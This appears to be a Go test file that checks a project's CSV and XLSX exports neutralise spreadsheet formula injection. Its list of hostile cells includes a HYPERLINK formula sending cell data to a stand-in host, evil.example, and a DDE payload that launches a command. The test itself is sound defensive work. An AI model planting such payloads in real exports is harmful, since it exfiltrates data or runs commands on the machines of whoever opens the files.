package export_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"strings"
	"testing"
	"time"

	"github.com/xuri/excelize/v2"

	"github.com/baosong/baosong/desk"
	"github.com/baosong/baosong/export"
)

// Formulas typed in chat (an item's title, author and body, a weekly
// report, a good deed) reach the exports as text: CSV cells get a leading
// quote, XLSX cells are strings, never formulas.
var hostileCells = []string{
	`=HYPERLINK("http://evil.example/?"&A1,"点我")`,
	"+cmd|' /C calc'!A0",
	"@SUM(1+1)",
	"-2+3",
	"\t=1+1",
}

func hostileSource(t *testing.T) *export.Source {
	t.Helper()
	dk, member, src := deskAt(t, time.Date(2026, 11, 20, 9, 0, 0, 0, cst))
	ctx := context.Background()
	day := time.Date(2026, 11, 10, 9, 0, 0, 0, cst)
	h := hostileCells
	if _, err := dk.Submit(ctx, member("officer-1"), desk.Fields{Title: h[0], Category: "动态", Body: h[1], Author: h[2], Reviewer: h[3]}, day); err != nil {
		t.Fatal(err)
	}
	if _, err := dk.SubmitWeekly(ctx, member("officer-2"), h[4], day); err != nil {
		t.Fatal(err)
	}
	if _, err := dk.ReportGoodDeed(ctx, member("cadre-g1c1"), "g1c1", h[0], day); err != nil {
		t.Fatal(err)
	}
	return src
}

func TestExportsNeutraliseFormulas(t *testing.T) {
	src := hostileSource(t)
	for _, what := range []string{"submissions", "weekly"} {
		var buf bytes.Buffer
		if err := export.Write(src, what, "2026-11", export.CSV, &buf); err != nil {
			t.Fatal(err)
		}
		rows, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(buf.String(), "\ufeff"))).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		found := 0
		for _, row := range rows {
			for _, cell := range row {
				for _, h := range hostileCells {
					if cell == h {
						t.Errorf("%s csv: cell %q is a live formula", what, cell)
					}
					if cell == "'"+h {
						found++
					}
				}
			}
		}
		if want := map[string]int{"submissions": 3, "weekly": 1}[what]; found != want {
			t.Errorf("%s csv: %d neutralised cells, want %d:\n%s", what, found, want, buf.String())
		}
	}

	f := archive(t, src)
	found := 0
	for _, sheet := range f.GetSheetList() {
		rows, err := f.GetRows(sheet)
		if err != nil {
			t.Fatal(err)
		}
		for r, row := range rows {
			for c, v := range row {
				cell, _ := excelize.CoordinatesToCellName(c+1, r+1)
				if formula, _ := f.GetCellFormula(sheet, cell); formula != "" {
					t.Errorf("%s!%s holds the formula %q", sheet, cell, formula)
				}
				for _, h := range hostileCells {
					if v != h {
						continue
					}
					found++
					if typ, _ := f.GetCellType(sheet, cell); typ != excelize.CellTypeSharedString && typ != excelize.CellTypeInlineString {
						t.Errorf("%s!%s = %q is stored as type %v, not text", sheet, cell, v, typ)
					}
				}
			}
		}
	}
	if found != 5 { // title, author, reviewer; the weekly report; the good deed
		t.Errorf("%d hostile texts found as text cells in the archive, want 5", found)
	}
}
